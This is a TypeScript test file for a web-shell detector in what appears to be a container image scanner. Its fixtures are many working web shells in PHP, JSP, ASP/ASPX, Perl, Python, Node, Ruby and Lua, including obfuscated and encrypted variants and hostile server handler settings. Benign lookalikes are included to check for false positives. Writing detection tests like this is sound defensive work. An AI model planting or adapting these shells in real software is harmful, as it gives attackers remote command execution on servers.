import { describe, expect, it } from 'vitest';
import { type ImageSpec, judge, type LayerSpec } from '../../../testkit/detect.ts';
import type { Finding } from '../finding.ts';
import { webShell } from './index.ts';

function find(files: LayerSpec, config?: ImageSpec['config']): readonly Finding[] {
  const { findings, unknowns } = judge([webShell], { layers: [files], ...(config && { config }) });
  expect(unknowns).toEqual([]);
  return findings;
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (c) =>
    String.fromCharCode((((c.charCodeAt(0) & 31) + 12) % 26) + 1 + (c.charCodeAt(0) & 96)),
  );

const PHP = [
  'eval($_POST["x"]);',
  '@eval($_POST[x]);',
  'system($_GET[0]);',
  'passthru($_REQUEST["c"] . " 2>&1");',
  'echo `$_GET[c]`;',
  'echo shell_exec("cd /tmp; {$_COOKIE[\'c\']}");',
  'assert($_REQUEST["c"]);',
  '$c = $_GET["c"]; $d = trim($c); echo shell_exec($d);',
  'if (isset($_GET["c"])) { $c = $_GET["c"]; } else { $c = "id"; } system($c);',
  '$c = isset($_GET["c"]) ? $_GET["c"] : "id"; system($c);',
  'preg_replace("/.*/e", $_POST["x"], "");',
  'preg_replace("~a~ei", "eval(\\$_POST[1])", "a");',
  '$f = create_function("", $_POST["x"]); $f();',
  '$f = "sys" . "tem"; $f($_GET["c"]);',
  '$f = base64_decode("c3lzdGVt"); $f($_GET["c"]);',
  '$f = str_rot13("flfgrz"); $f($_GET["c"]);',
  '$f = strrev("metsys"); $f($_GET["c"]);',
  '$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_REQUEST[0]);',
  '$f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f($_GET["c"]);',
  '$s = "abcdefghijklmnopqrstuvwxyz"; $f = $s[18].$s[24].$s[18].$s[19].$s[4].$s[12]; $f($_GET[1]);',
  '$f = str_replace("q", "", "qsyqstqem"); $f($_GET[1]);',
  '$a = array("as", "sert"); $f = implode("", $a); $f($_POST[1]);',
  '$f = "`{{{"^"?<>/"; ${$f}[0](${$f}[1]);',
  '$f = ~"\\x8c\\x86\\x8c\\x8b\\x9a\\x92"; $f($_GET[1]);',
  '$_ = $_GET; $_["a"]($_["b"]);',
  '$_GET["f"]($_POST["x"]);',
  '${"_" . "GET"}["a"](${"_GET"}["b"]);',
  '$GLOBALS["_POST"]["f"]($GLOBALS["_POST"]["x"]);',
  'call_user_func("system", $_GET["c"]);',
  'array_map("assert", array($_POST["x"]));',
  'array_filter(array($_REQUEST["p"]), base64_decode($_REQUEST["e"]));',
  'usort($_GET, "system");',
  'register_shutdown_function($_REQUEST["e"], $_REQUEST["p"]);',
  'extract($_REQUEST); $a($b);',
  'foreach ($_POST as $k => $v) { $k($v); }',
  '$h = getallheaders(); eval($h["X-Run"]);',
  'eval(file_get_contents("php://input"));',
  '$b = stream_get_contents(fopen("php://input", "r")); eval(base64_decode($b));',
  'eval(gzinflate(base64_decode($_POST["z"])));',
  `eval(base64_decode("${base64('system($_GET["c"]);')}"));`,
  `eval(str_rot13('${rot13('system($_GET["c"]);')}'));`,
  `$e = "ev" . "al"; assert("eval(\\$_POST['x']);");`,
  `eval(base64_decode("${base64(`eval(base64_decode("${base64('passthru($_COOKIE["c"]);')}"));`)}"));`,
  'function run($c) { return shell_exec($c); } echo run($_POST["c"]);',
  'function get() { return $_GET["c"]; } system(get());',
  'class A { private $c; function __construct($c) { $this->c = $c; } function go() { system($this->c); } } $a = new A($_GET["c"]); $a->go();',
  'function d($s) { $o = ""; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) ^ 7); } return $s; } eval(d($_POST["x"]));',
  'define("K", 1); $c = <<<EOT\n{$_GET["c"]}\nEOT;\nsystem($c);',
  '\\system($_GET["c"]);',
  '$p = proc_open($_POST["c"], array(), $pipes);',
  '$p = popen("/bin/sh -c " . $_GET["c"], "r");',
  'list($f, $x) = array($_GET["f"], $_GET["x"]); $f($x);',
  '[$f, $x] = [$_GET["f"], $_GET["x"]]; $f($x);',
  'parse_str($_SERVER["QUERY_STRING"], $q); system($q["c"]);',
  'system($_SERVER["HTTP_X_RUN"]);',
  '$w = new COM("WScript.shell"); $w->exec("cmd.exe /c " . $_GET["c"]);',
  '(new ReflectionFunction("system"))->invoke($_GET["c"]);',
  'if ($_POST["k"] == "s") : eval($_POST["x"]); endif;',
  'switch ($_GET["a"]) { case "x": system($_GET["c"]); break; }',
  '$x = fn($c) => system($c); $x($_GET["c"]); system($_GET["c"]);',
  'array_walk($_POST, function ($v) { eval($v); }); @eval($_POST[1]);',
];

describe('web-shell finds in PHP', () => {
  it.each(PHP)('%s', (code) => {
    const findings = find({ 'var/www/html/x.php': `<html>\n<?php\n${code}\n?>\n</html>` });
    expect(findings).toMatchObject([{ rule: 'web-shell/shell', severity: 'critical', confidence: 'high' }]);
  });

  it('the line', () => {
    const files = { 'srv/app/x.php': '<?php\n\n// eval($_GET["no"])\nsystem($_GET["c"]);\n' };
    expect(find(files)).toMatchObject([
      { severity: 'high', evidence: [{ line: 4, excerpt: 'system($_GET["c"]);' }] },
    ]);
  });

  it('one in a picture', () => {
    const bytes = 'GIF89a....<?php @eval($_POST["x"]); ?>';
    const found = find({ 'var/www/html/logo.gif': { bytes, content: { kind: 'data', format: 'gif' } } });
    expect(found).toMatchObject([{ rule: 'web-shell/shell', severity: 'critical' }]);
  });

  it('one in a text that is none by its name', () => {
    const found = find({ 'var/www/html/logo.jpg': 'GIF89a;\n<?php system($_GET["c"]); ?>' });
    expect(found[0]?.why).toContain('none by its name');
  });

  it('one that a script writes', () => {
    const text = '#!/bin/sh\necho \'<?php system($_GET["c"]); ?>\' > /var/www/html/s.php\nexec apache2\n';
    expect(find({ 'e.sh': text }, { Entrypoint: ['/e.sh'] })).toMatchObject([
      { severity: 'critical', evidence: [{ path: '/e.sh', line: 2 }] },
    ]);
  });

  it('one in a folder that is called vendor, where it is served', () => {
    expect(find({ 'var/www/html/vendor/a/b.php': '<?php eval($_POST[1]);' })).toMatchObject([
      { severity: 'critical' },
    ]);
  });

  it('one that a later layer removes', () => {
    const layers = [{ 'var/www/html/x.php': '<?php eval($_POST[1]);' }, { 'var/www/html/x.php': null }];
    expect(judge([webShell], { layers }).findings).toMatchObject([{ severity: 'high' }]);
  });

  it('a file of code that the request names, as less', () => {
    expect(find({ 'var/www/html/x.php': '<?php include $_GET["p"];' })).toMatchObject([
      { severity: 'medium' },
    ]);
  });
});

const OTHERS: readonly (readonly [string, string])[] = [
  ['x.jsp', '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
  [
    'x.jsp',
    '<% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c}); %>',
  ],
  [
    'x.jsp',
    '<% Runtime r = Runtime.getRuntime(); String c = request.getHeader("X"); if (c != null) { r.exec(c); } %>',
  ],
  ['x.jsp', '<% ProcessBuilder b = new ProcessBuilder("sh", "-c", request.getParameter("c")); b.start(); %>'],
  [
    'x.jsp',
    '<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if(request.getMethod().equals("POST")){String k="e45e329feb5d925b";Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>',
  ],
  [
    'x.jsp',
    '<%! String run(String c) throws Exception { return "" + Runtime.getRuntime().exec(c); } %><%= run(request.getParameter("c")) %>',
  ],
  [
    'x.jsp',
    '<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("c")); %>',
  ],
  [
    'x.jspx',
    '<jsp:root><jsp:scriptlet><![CDATA[Runtime.getRuntime().exec(request.getParameter("c"));]]></jsp:scriptlet></jsp:root>',
  ],
  ['x.asp', '<%eval request("c")%>'],
  ['x.asp', '<% Execute(Request.Form("c")) %>'],
  [
    'x.asp',
    '<%\n\' note\nDim c\nc = Request.QueryString("c")\nSet s = Server.CreateObject("WScript.Shell")\nSet e = s.Exec("cmd.exe /c " & c)\n%>',
  ],
  ['x.asp', '<%ExecuteGlobal StrReverse(request("c"))%>'],
  ['x.aspx', '<%@ Page Language="Jscript"%><%eval(Request.Item["c"],"unsafe");%>'],
  [
    'x.aspx',
    '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request["c"]; p.Start(); }</script>',
  ],
  [
    'x.aspx',
    '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.QueryString["c"]); %>',
  ],
  [
    'x.ashx',
    '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext context) { byte[] b = Convert.FromBase64String(context.Request["x"]); Assembly.Load(b).CreateInstance("A"); } }',
  ],
  [
    'cgi-bin/x.pl',
    '#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param("c");\nprint "Content-type: text/plain\\n\\n";\nprint `$c`;\n',
  ],
  ['cgi-bin/x.cgi', '#!/usr/bin/perl\nsystem($ENV{QUERY_STRING});\n'],
  [
    'cgi-bin/y.cgi',
    '#!/usr/bin/perl\nread(STDIN, $b, $ENV{CONTENT_LENGTH});\nmy $c = uri_unescape($ENV{"QUERY_STRING"});\nopen(P, "$c |");\n',
  ],
];

const PROGRAMS: readonly (readonly [string, string])[] = [
  [
    'a.py',
    'import os\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route("/x")\ndef x():\n    return os.popen(request.args.get("c")).read()\n',
  ],
  [
    'a.py',
    'from flask import request\nimport subprocess as sp\ndef x():\n    c = request.form["c"]\n    return sp.check_output(c, shell=True)\n',
  ],
  [
    'a.py',
    'from subprocess import run as r\nfrom flask import request\ndef x():\n    r(["sh", "-c", request.json["c"]])\n',
  ],
  [
    'a.py',
    'import base64\nfrom flask import request\ndef x():\n    exec(base64.b64decode(request.headers["X"]))\n',
  ],
  [
    'a.py',
    'from fastapi import FastAPI\nimport os\napp = FastAPI()\n@app.get("/x")\nasync def x(cmd: str):\n    os.system(cmd)\n',
  ],
  [
    'a.py',
    'import os\nfrom http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        n = int(self.headers["Content-Length"])\n        body = self.rfile.read(n).decode()\n        os.system(body)\n',
  ],
  ['a.py', '__import__("os").system(request.args["c"])\n'],
  [
    'a.py',
    'import os\ndef helper(c):\n    return os.popen(f"bash -c \'{c}\'").read()\n\n@app.route("/x")\ndef x():\n    return helper(request.values.get("c"))\n',
  ],
  [
    'a.js',
    'const { exec } = require("child_process");\napp.get("/x", (req, res) => {\n  exec(req.query.c, (e, out) => res.send(out));\n});\n',
  ],
  [
    'a.js',
    'const cp = require("node:child_process");\nrequire("http").createServer((req, res) => {\n  const u = new URL(req.url, "http://x");\n  res.end(cp.execSync(u.searchParams.get("c")));\n}).listen(80);\n',
  ],
  [
    'a.mjs',
    'import { spawn as s } from "child_process";\napp.post("/x", async (req, res) => { const { c } = req.body; s("sh", ["-c", c]); });\n',
  ],
  [
    'a.js',
    'app.use((req, res) => { let b = ""; req.on("data", (d) => { b += d; }); req.on("end", () => { eval(b); }); });\n',
  ],
  ['a.js', 'app.get("/", (req, res) => res.send(new Function(req.query.c)()));\n'],
  [
    'a.js',
    'app.get("/", function (req, res) { require("child_process")["exec"](Buffer.from(req.headers.x, "base64").toString()); });\n',
  ],
  // Each function is written before the one that calls it, and only the last pass but one sees what it is given.
  [
    'a.js',
    'const { exec } = require("child_process");\nfunction f(c) { exec(c); }\nfunction e(c) { f(c); }\nfunction d(c) { e(c); }\nfunction b(c) { d(c); }\nfunction a(c) { b(c); }\napp.get("/x", (req) => { a(req.query.c); });\n',
  ],
  ['a.rb', 'require "sinatra"\nget "/x" do\n  `#{params[:c]}`\nend\n'],
  ['a.rb', 'get "/x" do\n  c = params["c"]\n  system c\nend\n'],
  ['a.lua', 'local a = ngx.req.get_uri_args()\nlocal f = io.popen(a.c)\n'],
  [
    'nginx.conf',
    'http { server { listen 80;\n location /z { content_by_lua_block { local h = io.popen(ngx.var.arg_c); ngx.say(h:read("*a")) } } } }\n',
  ],
  ['nginx.conf', "server { location /z { content_by_lua 'os.execute(ngx.var.arg_c)'; } }\n"],
];

describe('web-shell finds in other languages', () => {
  it.each(OTHERS)('%s: %s', (name, text) => {
    expect(find({ [`srv/www/${name}`]: text })).toMatchObject([
      { rule: 'web-shell/shell', severity: 'critical' },
    ]);
  });

  it.each(PROGRAMS)('%s: %s', (name, text) => {
    const files = { [`app/${name}`]: text };
    expect(find(files, { Cmd: ['run', `/app/${name}`] })).toMatchObject([
      { rule: 'web-shell/shell', severity: 'high' },
    ]);
    expect(find(files)).toMatchObject([{ severity: 'medium' }]);
  });
});

describe('web-shell finds settings', () => {
  it.each<[string, string, string]>([
    ['var/www/html/.htaccess', 'AddType application/x-httpd-php .php .jpg', 'high'],
    ['var/www/html/.htaccess', 'AddHandler php5-script .png', 'high'],
    [
      'var/www/html/.htaccess',
      '<FilesMatch "\\.(gif|jpe?g)$">\nSetHandler application/x-httpd-php\n</FilesMatch>',
      'high',
    ],
    ['var/www/html/up/.htaccess', 'php_value auto_prepend_file /tmp/sess_1', 'high'],
    ['var/www/html/.user.ini', 'auto_prepend_file=logo.gif\n', 'high'],
    ['usr/local/etc/php/conf.d/z.ini', 'auto_prepend_file = "php://input"\nallow_url_include = On\n', 'high'],
    [
      'etc/nginx/conf.d/d.conf',
      'server {\n location ~ \\.(jpg|png)$ {\n  fastcgi_pass 127.0.0.1:9000;\n }\n}\n',
      'high',
    ],
  ])('%s: %s', (path, text, severity) => {
    expect(find({ [path]: text })).toMatchObject([{ rule: 'web-shell/php-handler', severity }]);
  });

  it.each([
    ['auto_prepend_file=php://input'],
    ['auto_prepend_file= /tmp/x'],
    ['auto_prepend_file=', '-d', 'auto_append_file=/tmp/x'],
    ['auto_prepend_file=/app/waf.php', '-d', 'auto_append_file=/tmp/x'],
  ])('on the command line: %s %s %s', (...settings) => {
    expect(find({}, { Cmd: ['php', '-d', ...settings, '-S', '0.0.0.0:80'] })).toMatchObject([
      { rule: 'web-shell/php-handler', evidence: [{ path: 'CMD' }] },
    ]);
  });

  it('and none where a setting is set to nothing there', () => {
    const told = ['-d', 'auto_prepend_file=', '-d', 'auto_append_file=', '-d', 'display_errors=0'];
    expect(find({}, { Cmd: ['php', ...told, '-S', '0.0.0.0:80', '-t', '/app'] })).toEqual([]);
  });
});

const HONEST: readonly (readonly [string, string])[] = [
  ['x.php', '<?php exec("convert " . escapeshellarg($_FILES["f"]["tmp_name"]) . " out.png");'],
  ['x.php', '<?php $id = intval($_GET["id"]); system("report $id");'],
  ['x.php', '<?php system("uptime"); echo htmlspecialchars($_GET["q"]);'],
  ['x.php', '<?php $pdo->exec($_GET["sql"]); $m = $re->exec($_POST["x"]);'],
  ['x.php', '<?php // eval($_POST["x"])\n/* system($_GET["c"]) */ # passthru($_GET["c"])\n'],
  ['x.php', '<?php echo "Never write eval(\\$_POST[1]) or system(\\$_GET[c])."; print \'eval($_POST[1]);\';'],
  [
    'x.php',
    '<?php $action = $_REQUEST["action"]; if (method_exists($this, $action)) { $this->$action($_POST); }',
  ],
  ['x.php', '<?php $page = $_GET["page"]; include "pages/" . basename($page) . ".php";'],
  [
    'x.php',
    '<?php $a = array_map("trim", $_POST); $b = array_map("stripslashes_deep", $_GET); array_filter($_POST, "is_string");',
  ],
  ['x.php', '<?php do_action("wp_ajax_" . $_REQUEST["action"]); call_user_func(array($this, "x"), $_GET);'],
  [
    'x.php',
    '<?php $cb = $_GET["callback"]; echo $cb . "(" . json_encode($d) . ")"; echo $_GET["callback"] . (1 + 2);',
  ],
  [
    'x.php',
    '<?php if (preg_match("/^[a-z]+$/e", $_GET["q"])) {} echo preg_replace("/e+/i", $_GET["a"], $b);',
  ],
  ['x.php', '<?php usort($rows, function ($a, $b) { return $a[$_GET["s"]] <=> $b[$_GET["s"]]; });'],
  ['x.php', '<?php assert(isset($_GET["x"])); assert($a === 1);'],
  [
    'x.php',
    '<?php $sql = "SELECT * FROM t WHERE c = `" . $_GET["c"] . "`"; $q = \'`\' . $_GET["t"] . \'`\';',
  ],
  ['x.php', '<?php function run($c) { return shell_exec($c); } run("df -h"); $x = $_GET["x"];'],
  [
    'x.php',
    '<?php $cmd = "ls"; $c = $_POST["cmd"]; if (in_array($c, ["a", "b"])) { log_it($c); } system($cmd);',
  ],
  [
    'adminer.php',
    '<?php $connection->query($_POST["query"]); $f = "mysqli_" . "query"; $f($link, $_POST["q"]);',
  ],
  [
    'vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    "<?php\neval('?>' . file_get_contents('php://input'));\n",
  ],
  [
    '.htaccess',
    'AddType application/x-httpd-php .php .phtml .html\n<FilesMatch \\.php$>\nSetHandler application/x-httpd-php\n</FilesMatch>\n',
  ],
  ['.user.ini', "auto_prepend_file = '/var/www/html/wordfence-waf.php'\n; auto_prepend_file = /tmp/x\n"],
  ['x.jsp', '<% String n = request.getParameter("n"); out.print(n); Runtime.getRuntime().exec("uptime"); %>'],
  ['x.jsp', '<% Runtime.getRuntime().exec(new String[]{"/usr/bin/report", request.getParameter("n")}); %>'],
  [
    'x.asp',
    '<% Response.Write Server.HTMLEncode(Request("q")) : Set c = Server.CreateObject("ADODB.Connection") : c.Execute "select 1" & Request("q") %>',
  ],
  [
    'x.aspx',
    '<%@ Page Language="C#" %><%# Eval("Name") %><% Response.Write(Request["q"]); Process.Start("notepad.exe"); %>',
  ],
  [
    'cgi-bin/x.pl',
    '#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $n = $q->param("n");\nopen(F, "<", "/data/$n");\nsystem("uptime");\neval { work($n); };\n',
  ],
];

const HONEST_PROGRAMS: readonly (readonly [string, string])[] = [
  // Shrunk: the letters are other variables each time.
  [
    'a.js',
    `eval("1");function k(t){let n=t.request.headers;x(n)}function x(e){var r=e.pending;return(0,r)(e)}${'function b(){return 0}'.repeat(300)}`,
  ],
  [
    'nginx.conf',
    'server { location /z { content_by_lua_block { local h = io.popen("uptime"); ngx.say(ngx.var.arg_c, h:read("*a")) } } }\n',
  ],
  ['a.js', 'const m = /x(.*)/.exec(req.query.x); const r = pattern.exec(req.body.y); db.exec(req.query.q);'],
  [
    'a.js',
    'const { exec } = require("child_process");\napp.get("/", (req, res) => { exec("uptime", (e, o) => res.send(o + req.query.x)); });',
  ],
  [
    'a.js',
    'const { spawn } = require("child_process");\napp.post("/", (req, res) => { spawn("ffmpeg", ["-i", req.body.file]); });',
  ],
  [
    'a.js',
    'const request = require("request"); request.get(url, (e, r, body) => { const f = new Function("return this")(); });',
  ],
  [
    'a.py',
    'import subprocess\nfrom flask import request\ndef x():\n    subprocess.run(["convert", request.args["f"], "o.png"])\n',
  ],
  [
    'a.py',
    'from flask import request\nimport os\n@app.route("/x")\ndef x():\n    """os.system(request.args["c"])"""\n    os.system("uptime")\n    return request.args["c"]\n',
  ],
  [
    'a.py',
    'import os\nurl = os.environ["URL"]\nreq = urllib.request.urlopen(url)\nos.system("uptime")\nprint(req.read())\n',
  ],
  [
    'a.py',
    'import re, os\nif os.environ.get("X"):\n    m = compile(request.path)\n    cursor.execute(request.args["q"])\n',
  ],
  ['a.rb', 'get "/x" do\n  system "uptime"\n  Item.where(name: params[:n])\nend\n'],
  ['a.yaml', 'payload: "<?php system($_GET[\'c\']); ?>"\n'],
];

describe('web-shell leaves alone', () => {
  it.each(HONEST)('%s: %s', (name, text) => {
    const asked = find({ [`var/www/html/${name}`]: text }).filter(
      ({ severity }) => !/^(?:info|low)$/.test(severity),
    );
    expect(name.startsWith('vendor/') ? [] : asked).toEqual([]);
  });

  it.each(HONEST_PROGRAMS)('%s: %s', (name, text) => {
    expect(find({ [`app/${name}`]: text }, { Cmd: ['run', `/app/${name}`] })).toEqual([]);
  });

  it('what PHPUnit runs its tests with, where it is not served', () => {
    const path = 'opt/tool/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php';
    expect(find({ [path]: "<?php\neval('?>' . file_get_contents('php://input'));\n" })).toMatchObject([
      { severity: 'low' },
    ]);
  });
});
